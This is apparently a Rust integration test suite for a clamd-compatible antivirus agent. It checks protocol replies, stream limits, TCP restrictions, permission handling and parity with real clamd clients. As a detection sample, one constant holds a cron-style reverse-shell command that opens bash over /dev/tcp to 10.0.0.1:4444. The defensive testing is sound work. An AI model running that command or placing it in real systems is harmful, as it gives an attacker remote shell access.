//! clamd's protocol on the agent, over real sockets: the command forms and replies byte for
//! byte, IDSESSION, INSTREAM's limit, TCP's refusal of path scans, slow clients, a peer without
//! read rights; and the real clients (Debian's clamdscan, python3-pyclamd) printing the same
//! verdicts against vigil as against a real clamd loaded with the same signatures. Tests that
//! need clamd, clamdscan, pyclamd or another user say SKIP and return when they are missing.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use vigil_agent::clamd::{bind, serve, ClamdConfig, ClamdError};
use vigil_scan_core::{Engine, SharedEngine};
use vigil_tests::clamd::{client_conf, have_clamdscan, Clamd};
use vigil_tests::rules::{db_from, test_key};

const EICAR: &[u8] = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
const REVSHELL: &[u8] = b"* * * * * bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n";
const CLAM_EXE: &str = "/usr/share/clamav-testfiles/clam.exe";

/// One signature directory for both engines: EICAR by MD5, ClamAV's test executable by
/// SHA-256, a body signature for a reverse shell.
fn sigs(dir: &Path) -> PathBuf {
    use std::fmt::Write as _;
    let d = dir.join("sigs");
    std::fs::create_dir_all(&d).unwrap();
    let md5 = {
        let out = Command::new("md5sum")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .and_then(|mut c| {
                c.stdin.take().unwrap().write_all(EICAR)?;
                c.wait_with_output()
            })
            .unwrap();
        String::from_utf8(out.stdout).unwrap()[..32].to_string()
    };
    std::fs::write(d.join("t.hdb"), format!("{md5}:68:Vigil.Test.Eicar\n")).unwrap();
    std::fs::write(
        d.join("t.hsb"),
        "71e7b604d18aefd839e51a39c88df8383bb4c071dc31f87f00a2b5df580d4495:544:Vigil.Test.ClamExe\n",
    )
    .unwrap();
    let mut ndb = String::new();
    let _ = writeln!(
        ndb,
        "Vigil.Test.RevShell:0:*:2f6465762f7463702f{{7-39}}2f3434"
    );
    std::fs::write(d.join("t.ndb"), ndb).unwrap();
    d
}

/// The listener on a Unix socket (mode 0666: the rights test connects as another user) and
/// a loopback port, stopped when dropped.
struct Vigil {
    socket: PathBuf,
    port: u16,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<Result<(), ClamdError>>>,
}

impl Vigil {
    fn start(dir: &Path, sigs: &Path, cfg: ClamdConfig) -> Self {
        let db = db_from(sigs, 9);
        let engine = Engine::load(&db, &[test_key().public()]).unwrap();
        let socket = dir.join("vigil-clamd.sock");
        let cfg = ClamdConfig {
            unix_socket: Some(socket.clone()),
            socket_mode: 0o666,
            // Port 0: the kernel picks a free one, with no window for another test to take it.
            tcp: Some("127.0.0.1:0".parse().unwrap()),
            ..cfg
        };
        let listeners = bind(&cfg).unwrap();
        let port = listeners.tcp.as_ref().unwrap().local_addr().unwrap().port();
        let stop = Arc::new(AtomicBool::new(false));
        let (s, st) = (Arc::new(SharedEngine::new(engine)), stop.clone());
        let thread = std::thread::spawn(move || serve(listeners, s, cfg, st));
        Self {
            socket,
            port,
            stop,
            thread: Some(thread),
        }
    }
}

impl Drop for Vigil {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// A directory other users may enter (tempdir makes them 0700).
fn open_tempdir() -> tempfile::TempDir {
    let t = tempfile::tempdir().unwrap();
    std::fs::set_permissions(t.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    t
}

/// Sends `bytes` on a new Unix connection and reads everything until the server closes it.
fn talk(socket: &Path, bytes: &[u8]) -> Vec<u8> {
    let mut s = UnixStream::connect(socket).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    s.write_all(bytes).unwrap();
    let mut out = Vec::new();
    s.read_to_end(&mut out).unwrap();
    out
}

fn talk_tcp(port: u16, bytes: &[u8]) -> Vec<u8> {
    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    s.write_all(bytes).unwrap();
    let mut out = Vec::new();
    s.read_to_end(&mut out).unwrap();
    out
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// INSTREAM chunks of `data` (in pieces of `piece` bytes) and the terminator.
fn chunks(data: &[u8], piece: usize) -> Vec<u8> {
    let mut out = Vec::new();
    for c in data.chunks(piece.max(1)) {
        out.extend_from_slice(&(c.len() as u32).to_be_bytes());
        out.extend_from_slice(c);
    }
    out.extend_from_slice(&0u32.to_be_bytes());
    out
}

/// A tree: a-eicar.com, sub/eicar.com, clean.txt, revshell.txt, an empty file.
fn tree(dir: &Path) -> PathBuf {
    let t = dir.join("tree");
    std::fs::create_dir_all(t.join("sub")).unwrap();
    std::fs::write(t.join("a-eicar.com"), EICAR).unwrap();
    std::fs::write(t.join("sub/eicar.com"), EICAR).unwrap();
    std::fs::write(t.join("clean.txt"), b"hello\n").unwrap();
    std::fs::write(t.join("revshell.txt"), REVSHELL).unwrap();
    std::fs::write(t.join("empty"), b"").unwrap();
    t
}

#[test]
fn commands_and_replies_as_clamd_writes_them() {
    let t = open_tempdir();
    let sigs = sigs(t.path());
    let v = Vigil::start(t.path(), &sigs, ClamdConfig::default());
    let tr = tree(t.path());
    let d = tr.display();
    let s = &v.socket;

    // Every form of PING; replies end as the command did, and the connection closes.
    assert_eq!(talk(s, b"zPING\0"), b"PONG\0");
    assert_eq!(talk(s, b"nPING\n"), b"PONG\n");
    assert_eq!(talk(s, b"PING\n"), b"PONG\n");
    assert_eq!(talk(s, b"PING"), b"PONG\n");
    let version = text(&talk(s, b"nVERSION\n"));
    assert!(
        version.starts_with("ClamAV vigil-") && version.contains("/9/"),
        "{version}"
    );
    let commands = text(&talk(s, b"nVERSIONCOMMANDS\n"));
    assert!(
        commands.contains("| COMMANDS: ") && commands.contains(" IDSESSION "),
        "{commands}"
    );
    for unknown in [
        &b"nFOO\n"[..],
        b"nping\n",
        b"nPING x\n",
        b"INSTREAM\n",
        b"VERSIONCOMMANDS\n",
        b"nEND\n",
        b"nSCAN\n",
    ] {
        assert_eq!(talk(s, unknown), b"UNKNOWN COMMAND\n", "{}", text(unknown));
    }
    assert_eq!(talk(s, b"nSHUTDOWN\n"), b"COMMAND UNAVAILABLE\n");
    assert_eq!(talk(s, b"nRELOAD\n"), b"RELOADING\n");
    assert!(text(&talk(s, b"zSTATS\0")).ends_with("END\0"));

    // Streams.
    let mut found = b"nINSTREAM\n".to_vec();
    found.extend(chunks(EICAR, 10));
    assert_eq!(text(&talk(s, &found)), "stream: Vigil.Test.Eicar FOUND\n");
    let mut clean = b"zINSTREAM\0".to_vec();
    clean.extend(chunks(b"hello", 4096));
    assert_eq!(talk(s, &clean), b"stream: OK\0");
    assert_eq!(talk(s, b"nINSTREAM\n\0\0\0\0"), b"stream: OK\n");

    // Paths: SCAN stops at the first infected file, CONTSCAN and MULTISCAN go on,
    // ALLMATCHSCAN lists every match of the infected file, a clean tree is OK as a whole.
    assert_eq!(
        text(&talk(s, format!("nSCAN {d}\n").as_bytes())),
        format!("{d}/a-eicar.com: Vigil.Test.Eicar FOUND\n")
    );
    for cmd in ["CONTSCAN", "MULTISCAN"] {
        let mut lines: Vec<String> = text(&talk(s, format!("n{cmd} {d}\n").as_bytes()))
            .lines()
            .map(String::from)
            .collect();
        lines.sort();
        assert_eq!(
            lines,
            [
                format!("{d}/a-eicar.com: Vigil.Test.Eicar FOUND"),
                format!("{d}/revshell.txt: Vigil.Test.RevShell FOUND"),
                format!("{d}/sub/eicar.com: Vigil.Test.Eicar FOUND"),
            ],
            "{cmd}"
        );
    }
    assert_eq!(
        text(&talk(
            s,
            format!("zALLMATCHSCAN {d}/sub/eicar.com\0").as_bytes()
        )),
        format!("{d}/sub/eicar.com: Vigil.Test.Eicar FOUND\0")
    );
    assert_eq!(
        text(&talk(s, format!("SCAN {d}/clean.txt\n").as_bytes())),
        format!("{d}/clean.txt: OK\n")
    );
    assert_eq!(
        text(&talk(s, format!("nSCAN {d}/nope\n").as_bytes())),
        format!("{d}/nope: File path check failure: No such file or directory. ERROR\n")
    );
    assert!(text(&talk(s, b"nSCAN relative/path\n")).ends_with("not an absolute path. ERROR\n"));
    assert_eq!(
        text(&talk(s, b"nSCAN /dev/null\n")),
        "/dev/null: Not supported file type ERROR\n/dev/null: OK\n"
    );

    // A session: numbered replies, the connection stays open until END.
    let mut session = b"nIDSESSION\nnPING\n".to_vec();
    session.extend(format!("nSCAN {d}/sub/eicar.com\n").as_bytes());
    session.extend(b"zINSTREAM\0");
    session.extend(chunks(b"clean bytes", 3));
    session.extend(b"nVERSION\nnEND\n");
    let replies = text(&talk(s, &session));
    assert!(
        replies.starts_with(&format!(
            "1: PONG\n2: {d}/sub/eicar.com: Vigil.Test.Eicar FOUND\n3: stream: OK\x004: ClamAV vigil-"
        )),
        "{replies:?}"
    );
    // What clamd refuses inside a session, and the error ends it.
    assert_eq!(
        text(&talk(
            s,
            format!("zIDSESSION\0zPING\0zCONTSCAN {d}\0zPING\0").as_bytes()
        )),
        "1: PONG\x002: Command invalid inside IDSESSION. ERROR\0"
    );
    assert_eq!(
        text(&talk(s, b"nIDSESSION\nPING\n")),
        "1: Only nCMDS\\n and zCMDS\\0 are accepted inside IDSESSION. ERROR\n"
    );

    // TCP: streams yes, paths no (no peer credentials).
    assert_eq!(talk_tcp(v.port, b"zPING\0"), b"PONG\0");
    assert_eq!(
        text(&talk_tcp(v.port, &found)),
        "stream: Vigil.Test.Eicar FOUND\n"
    );
    let refused = text(&talk_tcp(
        v.port,
        format!("nSCAN {d}/sub/eicar.com\n").as_bytes(),
    ));
    assert!(
        refused.contains("not allowed over TCP")
            && refused.ends_with(" ERROR\n")
            && !refused.contains("FOUND"),
        "{refused}"
    );
}

#[test]
fn tcp_path_scans_when_allowed() {
    let t = open_tempdir();
    let sigs = sigs(t.path());
    let v = Vigil::start(
        t.path(),
        &sigs,
        ClamdConfig {
            tcp_path_scans: true,
            ..ClamdConfig::default()
        },
    );
    let tr = tree(t.path());
    assert_eq!(
        text(&talk_tcp(
            v.port,
            format!("nSCAN {}/sub/eicar.com\n", tr.display()).as_bytes()
        )),
        format!("{}/sub/eicar.com: Vigil.Test.Eicar FOUND\n", tr.display())
    );
}

#[test]
fn over_long_streams_are_refused() {
    let t = open_tempdir();
    let sigs = sigs(t.path());
    let v = Vigil::start(
        t.path(),
        &sigs,
        ClamdConfig {
            stream_max_length: 1000,
            ..ClamdConfig::default()
        },
    );
    // Exactly the limit is accepted, as in clamd.
    let mut at = b"nINSTREAM\n".to_vec();
    at.extend(chunks(&[b'a'; 1000], 300));
    assert_eq!(talk(&v.socket, &at), b"stream: OK\n");
    // One byte over, in a later chunk: refused and closed without reading the rest.
    let mut over = b"nINSTREAM\n".to_vec();
    over.extend(chunks(&[b'a'; 1001], 500));
    assert_eq!(
        talk(&v.socket, &over),
        b"INSTREAM size limit exceeded. ERROR\n"
    );
    // A single announced chunk of 4 GiB - 1: refused before anything is read.
    let mut s = UnixStream::connect(&v.socket).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    s.write_all(b"zINSTREAM\0\xff\xff\xff\xff").unwrap();
    let mut out = Vec::new();
    s.read_to_end(&mut out).unwrap();
    assert_eq!(out, b"INSTREAM size limit exceeded. ERROR\0");
}

#[test]
fn slow_and_silent_clients_are_dropped_without_blocking_others() {
    let t = open_tempdir();
    let sigs = sigs(t.path());
    let v = Vigil::start(
        t.path(),
        &sigs,
        ClamdConfig {
            idle_timeout: Duration::from_secs(3),
            max_connections: 3,
            ..ClamdConfig::default()
        },
    );
    let start = Instant::now();
    let mut silent = UnixStream::connect(&v.socket).unwrap();
    let mut trickle = UnixStream::connect(&v.socket).unwrap();
    trickle.write_all(b"nPI").unwrap();
    // Another client is answered at once meanwhile.
    assert_eq!(talk(&v.socket, b"nPING\n"), b"PONG\n");
    assert!(start.elapsed() < Duration::from_secs(2));
    // A third held connection fills the cap (connections are accepted in order and counted
    // as they are): the next is told and closed.
    let _held = UnixStream::connect(&v.socket).unwrap();
    assert_eq!(
        talk(&v.socket, b"nPING\n"),
        b"Too many connections. ERROR\n"
    );
    for c in [&mut silent, &mut trickle] {
        c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        let mut out = Vec::new();
        c.read_to_end(&mut out).unwrap();
        assert!(out.is_empty(), "{out:?}");
    }
    let waited = start.elapsed();
    assert!(
        waited >= Duration::from_millis(2900) && waited < Duration::from_secs(10),
        "{waited:?}"
    );
    // Slots are free again once the held one timed out too.
    std::thread::sleep(Duration::from_millis(1000));
    assert_eq!(talk(&v.socket, b"nPING\n"), b"PONG\n");
}

/// Root, setpriv and /usr/bin/python3, to connect as `nobody`.
fn can_be_nobody(test: &str) -> bool {
    let ok = rustix::process::geteuid().is_root()
        && Command::new("setpriv").arg("--version").output().is_ok()
        && Path::new("/usr/bin/python3").exists();
    if !ok {
        eprintln!("SKIP {test}: needs root, setpriv and /usr/bin/python3 to act as another user");
    }
    ok
}

#[test]
fn a_peer_learns_nothing_about_files_it_cannot_read() {
    if !can_be_nobody("a_peer_learns_nothing_about_files_it_cannot_read") {
        return;
    }
    let t = open_tempdir();
    let sigs = sigs(t.path());
    let v = Vigil::start(t.path(), &sigs, ClamdConfig::default());
    let secret = t.path().join("secret.com");
    std::fs::write(&secret, EICAR).unwrap();
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
    let script = "import socket,sys\n\
                  s=socket.socket(socket.AF_UNIX);s.connect(sys.argv[1])\n\
                  s.sendall(sys.argv[2].encode()+b'\\n')\n\
                  out=b''\n\
                  while True:\n    b=s.recv(4096)\n    if not b: break\n    out+=b\n\
                  sys.stdout.write(out.decode())\n";
    let ask = |cmd: &str| {
        let out = Command::new("setpriv")
            .args([
                "--reuid=65534",
                "--regid=65534",
                "--clear-groups",
                "/usr/bin/python3",
                "-c",
                script,
            ])
            .arg(&v.socket)
            .arg(cmd)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", text(&out.stderr));
        text(&out.stdout)
    };
    let file = ask(&format!("nSCAN {}", secret.display()));
    assert_eq!(
        file,
        format!("{}: Access denied. ERROR\n", secret.display())
    );
    let dir = ask(&format!("nCONTSCAN {}", t.path().display()));
    assert!(!dir.contains("FOUND"), "{dir}");
    assert!(dir.contains("secret.com: Access denied. ERROR"), "{dir}");
    // Root, the agent's own user, gets the verdict.
    assert_eq!(
        text(&talk(
            &v.socket,
            format!("nSCAN {}\n", secret.display()).as_bytes()
        )),
        format!("{}: Vigil.Test.Eicar FOUND\n", secret.display())
    );
}

/// clamd names detections from unsigned databases `<name>.UNOFFICIAL`; vigil's names are
/// the signatures' own. clamd's ALLMATCHSCAN may name one signature twice for one file (once
/// per place it matched); vigil names each signature once. Everything else must match.
fn normalize(s: &str) -> Vec<String> {
    let mut lines: Vec<String> = s
        .replace(".UNOFFICIAL", "")
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(String::from)
        .collect();
    lines.sort();
    lines.dedup();
    lines
}

fn clamdscan(conf: &Path, args: &[&str], paths: &[&Path]) -> (i32, Vec<String>) {
    let out = Command::new("clamdscan")
        .arg(format!("--config-file={}", conf.display()))
        .args(["--no-summary"])
        .args(args)
        .args(paths)
        .output()
        .unwrap();
    let both = format!("{}{}", text(&out.stdout), text(&out.stderr));
    (out.status.code().unwrap_or(-1), normalize(&both))
}

/// A clamdscan run: its name, the configs for clamd and for vigil, arguments, paths.
type Case<'a> = (String, &'a Path, &'a Path, Vec<&'a str>, Vec<&'a Path>);

#[test]
fn clamdscan_prints_the_same_verdicts_as_against_clamd() {
    if !have_clamdscan() {
        return;
    }
    let t = open_tempdir();
    let sigs = sigs(t.path());
    let Some(clamd) = Clamd::start(&sigs, 25 << 20) else {
        return;
    };
    let v = Vigil::start(t.path(), &sigs, ClamdConfig::default());
    let tr = tree(t.path());
    if Path::new(CLAM_EXE).exists() {
        std::fs::copy(CLAM_EXE, tr.join("clam.exe")).unwrap();
    } else {
        eprintln!(
            "note: {CLAM_EXE} missing (apt-get install clamav-testfiles); scanning without it"
        );
    }
    let theirs_unix = client_conf(t.path(), "clamd-unix.conf", Some(&clamd.socket), None);
    let ours_unix = client_conf(t.path(), "vigil-unix.conf", Some(&v.socket), None);
    let theirs_tcp = client_conf(t.path(), "clamd-tcp.conf", None, Some(clamd.port));
    let ours_tcp = client_conf(t.path(), "vigil-tcp.conf", None, Some(v.port));
    let files: Vec<PathBuf> = [
        "a-eicar.com",
        "sub/eicar.com",
        "clean.txt",
        "revshell.txt",
        "empty",
    ]
    .iter()
    .map(|f| tr.join(f))
    .collect();
    let mut cases: Vec<Case> = Vec::new();
    for (mode, args) in [
        ("paths", vec![]),
        ("stream", vec!["--stream"]),
        ("fdpass", vec!["--fdpass"]),
        ("multiscan", vec!["--multiscan"]),
        ("allmatch", vec!["--allmatch"]),
    ] {
        cases.push((
            format!("{mode} tree"),
            &theirs_unix,
            &ours_unix,
            args.clone(),
            vec![tr.as_path()],
        ));
        for f in &files {
            cases.push((
                format!("{mode} {}", f.display()),
                &theirs_unix,
                &ours_unix,
                args.clone(),
                vec![f.as_path()],
            ));
        }
    }
    // On a loopback TCPAddr clamdscan sends paths unless told --stream; vigil refuses path
    // commands on TCP by default (tcp_path_scans_when_allowed covers the other setting).
    cases.push((
        "tcp tree".into(),
        &theirs_tcp,
        &ours_tcp,
        vec!["--stream"],
        vec![tr.as_path()],
    ));
    cases.push((
        "tcp eicar".into(),
        &theirs_tcp,
        &ours_tcp,
        vec!["--stream"],
        vec![files[0].as_path()],
    ));
    let mut found = 0;
    for (name, theirs, ours, args, paths) in &cases {
        let a = clamdscan(theirs, args, paths);
        let b = clamdscan(ours, args, paths);
        assert_eq!(b, a, "{name}: vigil (left) and clamd (right) differ");
        found += a.1.iter().filter(|l| l.ends_with(" FOUND")).count();
    }
    assert!(
        found >= 20,
        "too few detections ({found}): the signatures are not exercised"
    );
    // clamdscan -V prints the VERSION reply.
    let out = Command::new("clamdscan")
        .arg(format!("--config-file={}", ours_unix.display()))
        .arg("-V")
        .output()
        .unwrap();
    assert!(
        text(&out.stdout).starts_with("ClamAV vigil-"),
        "{}",
        text(&out.stdout)
    );
}

const PYCLAMD: &str = r#"
import json, sys
import pyclamd
cd = pyclamd.ClamdUnixSocket(sys.argv[1])
tree = sys.argv[2]
eicar = open(tree + "/sub/eicar.com", "rb").read()
out = {
    "ping": cd.ping(),
    "version": cd.version().split("/")[0].split()[0],
    "scan_file eicar": cd.scan_file(tree + "/sub/eicar.com"),
    "scan_file clean": cd.scan_file(tree + "/clean.txt"),
    "scan_file missing": cd.scan_file(tree + "/missing"),
    "scan_stream eicar": cd.scan_stream(eicar),
    "scan_stream clean": cd.scan_stream(b"clean bytes" * 1000),
    "multiscan_file": cd.multiscan_file(tree),
    "contscan_file": cd.contscan_file(tree),
    "allmatchscan": cd.allmatchscan(tree + "/revshell.txt"),
}
# clamd may name one signature twice for one file (once per match); vigil once.
out["allmatchscan"] = {k: sorted(set(map(tuple, v))) for k, v in (out["allmatchscan"] or {}).items()}
try:
    cd.scan_stream(b"x" * 2000000)
    out["too long"] = "accepted"
# Refused either way; which error pyclamd raises depends on when the close reaches it (it
# sends on after the reply), for clamd as for vigil.
except (pyclamd.BufferTooLongError, ConnectionResetError, BrokenPipeError):
    out["too long"] = "refused"
except Exception as e:
    out["too long"] = type(e).__name__
print(json.dumps(out, sort_keys=True).replace(".UNOFFICIAL", ""))
"#;

#[test]
fn pyclamd_gets_the_same_answers_as_from_clamd() {
    let py = Path::new("/usr/bin/python3");
    let has = py.exists()
        && Command::new(py)
            .args(["-c", "import pyclamd"])
            .output()
            .is_ok_and(|o| o.status.success());
    if !has {
        eprintln!("SKIP: python3-pyclamd is not installed (apt-get install python3-pyclamd)");
        return;
    }
    let t = open_tempdir();
    let sigs = sigs(t.path());
    let Some(clamd) = Clamd::start(&sigs, 1 << 20) else {
        return;
    };
    let v = Vigil::start(
        t.path(),
        &sigs,
        ClamdConfig {
            stream_max_length: 1 << 20,
            ..ClamdConfig::default()
        },
    );
    let tr = tree(t.path());
    let run = |socket: &Path| -> BTreeMap<String, serde_json::Value> {
        let out = Command::new(py)
            .args(["-c", PYCLAMD])
            .arg(socket)
            .arg(&tr)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", text(&out.stderr));
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let theirs = run(&clamd.socket);
    let ours = run(&v.socket);
    // The version's first word is the product: clamd's "ClamAV", and vigil's too.
    assert_eq!(ours["version"], "ClamAV");
    assert!(
        theirs["scan_file eicar"].to_string().contains("FOUND"),
        "{theirs:?}"
    );
    assert_eq!(
        ours, theirs,
        "pyclamd against vigil (left) and clamd (right)"
    );
}
